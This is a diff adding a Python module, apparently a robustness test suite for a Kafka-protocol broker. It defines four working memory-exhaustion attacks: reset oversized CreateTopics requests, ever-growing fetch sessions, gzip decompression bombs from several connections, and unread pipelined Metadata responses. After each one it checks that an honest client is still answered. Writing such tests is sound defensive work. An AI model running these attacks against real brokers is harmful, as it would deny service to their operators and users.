@@ -1,0 +1,146 @@
+"""What a peer may do to make a broker hold memory. Each attack ends when the broker has had all of it."""
+
+import gzip
+import socket
+import struct
+import time
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack, contextmanager
+from typing import Any
+
+from pykafka_core._core import crc32c
+from pykafka_core.protocol import decode_response, encode_request
+from pykafka_core.protocol.messages import (
+    CreateTopicsRequest,
+    FetchRequest,
+    MetadataRequest,
+    ProduceRequest,
+)
+
+MIB = 1 << 20
+PATIENCE_S = 60
+PRODUCE, FETCH, METADATA, CREATE_TOPICS = 0, 1, 3, 19
+
+
+def frame(api_key: int, version: int, request: Any) -> bytes:
+    """A request of a flexible version with its size."""
+    head = struct.pack(">hhih4sb", api_key, version, 7, 4, b"test", 0)
+    body = head + encode_request(request, version)
+    return struct.pack(">i", len(body)) + body
+
+
+@contextmanager
+def connected(address: str) -> Iterator[socket.socket]:
+    """A connection that ends with a reset, so that the broker sees it at once."""
+    host, _, port = address.rpartition(":")
+    with socket.create_connection((host, int(port)), PATIENCE_S) as connection:
+        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        yield connection
+
+
+def receive(connection: socket.socket, api_key: int, version: int) -> Any:
+    """The next answer."""
+    return decode_response(api_key, version, _body(connection))
+
+
+def _body(connection: socket.socket) -> bytes:
+    (size,) = struct.unpack(">i", _exactly(connection, 4))
+    return _exactly(connection, size)[5:]
+
+
+def _exactly(connection: socket.socket, size: int) -> bytes:
+    data = bytearray()
+    while len(data) < size:
+        part = connection.recv(min(size - len(data), MIB))
+        assert part, "the broker closed the connection"
+        data += part
+    return bytes(data)
+
+
+def _serves(address: str) -> None:
+    """An honest client is answered."""
+    with connected(address) as connection:
+        request = MetadataRequest(topics=[MetadataRequest.MetadataRequestTopic(name="orders")])
+        connection.sendall(frame(METADATA, 12, request))
+        (topic,) = receive(connection, METADATA, 12).topics
+        assert topic.error_code == 0
+
+
+def create_topics_and_reset(address: str, count: int = 1_000) -> None:
+    """Requests of 1 MB for Python whose connections are reset as soon as they were sent."""
+    topics = [
+        CreateTopicsRequest.CreatableTopic(
+            name=f"{number:0240}", num_partitions=1, replication_factor=1
+        )
+        for number in range(4_200)
+    ]
+    creating = CreateTopicsRequest(topics=topics, timeout_ms=1_000, validate_only=True)
+    request = frame(CREATE_TOPICS, 7, creating)
+    for _ in range(count):
+        with connected(address) as connection:
+            connection.sendall(request)
+    _serves(address)
+
+
+def grow_fetch_session(address: str, requests: int = 12, partitions: int = 20_000) -> None:
+    """One session that each incremental request makes larger."""
+    with connected(address) as connection:
+        session_id, epoch = 0, 0
+        for number in range(requests):
+            topic = FetchRequest.FetchTopic(topic_id=number.to_bytes(16, "big"))
+            topic.partitions = [
+                FetchRequest.FetchPartition(partition=index, partition_max_bytes=1)
+                for index in range(partitions)
+            ]
+            request = FetchRequest(
+                max_bytes=1, session_id=session_id, session_epoch=epoch, topics=[topic]
+            )
+            connection.sendall(frame(FETCH, 13, request))
+            # The answer names every partition, since none exists: only its head is decoded.
+            _, error_code, session_id = struct.unpack_from(">ihi", _body(connection))
+            epoch += 1
+            if error_code or not session_id:
+                session_id, epoch = 0, 0
+    _serves(address)
+
+
+def bomb(size: int) -> bytes:
+    """A batch whose records are ``size`` zeros, in gzip."""
+    payload = gzip.compress(bytes(size), 9)
+    after_crc = struct.pack(">hiqqqhii", 1, 0, 0, 0, -1, -1, -1, 1) + payload
+    head = struct.pack(">ibI", 0, 2, crc32c(after_crc))
+    return struct.pack(">qi", 0, len(head) + len(after_crc)) + head + after_crc
+
+
+def inflate_bombs(address: str, connections: int = 6, rounds: int = 2) -> None:
+    """Batches that become a thousand times as large, from several connections at once."""
+    data = ProduceRequest.TopicProduceData(name="orders")
+    partition = ProduceRequest.PartitionProduceData(index=0, records=bomb(120 * MIB))
+    data.partition_data = [partition]
+    request = frame(PRODUCE, 12, ProduceRequest(acks=1, timeout_ms=1_000, topic_data=[data]))
+    with ExitStack() as stack:
+        peers = [stack.enter_context(connected(address)) for _ in range(connections)]
+        for _ in range(rounds):
+            for peer in peers:
+                peer.sendall(request)
+            for peer in peers:
+                receive(peer, PRODUCE, 12)
+    _serves(address)
+
+
+def leave_answers(address: str, connections: int = 100, seconds: float = 3) -> None:
+    """Ask for large answers on many connections, again and again, and read none."""
+    request = frame(METADATA, 12, MetadataRequest(topics=None))
+    with ExitStack() as stack:
+        peers = [stack.enter_context(connected(address)) for _ in range(connections)]
+        for peer in peers:
+            peer.sendall(request * 20)
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            _serves(address)
+
+
+ATTACKS: dict[str, Callable[[str], None]] = {
+    attack.__name__: attack
+    for attack in (create_topics_and_reset, grow_fetch_session, inflate_bombs, leave_answers)
+}
